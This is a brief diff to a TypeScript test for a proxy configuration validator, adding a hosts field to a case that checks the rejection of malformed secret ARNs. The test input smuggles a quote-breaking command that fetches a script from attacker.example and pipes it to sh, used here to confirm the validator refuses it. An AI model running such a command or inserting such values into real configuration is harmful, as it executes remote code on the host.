@@ -68,6 +68,7 @@ describe('tenant-restriction proxy plan', () => {
       breakout: { ...alphaPrime.breakout!, tenantProxy: { caSecretArn: "${x}'; curl -s http://attacker.example/p | sh; echo '" } },
       alphaPrimeCase: alphaPrime.alphaPrimeCase!,
       subnets: lgwan(plan()).subnets,
+      hosts: alphaPrime.hosts ?? [],
     })).toThrow(/\[breakout\.tenantProxy\.caSecretArn\] .* is not a Secrets Manager ARN or an engine reference/);
   });
 
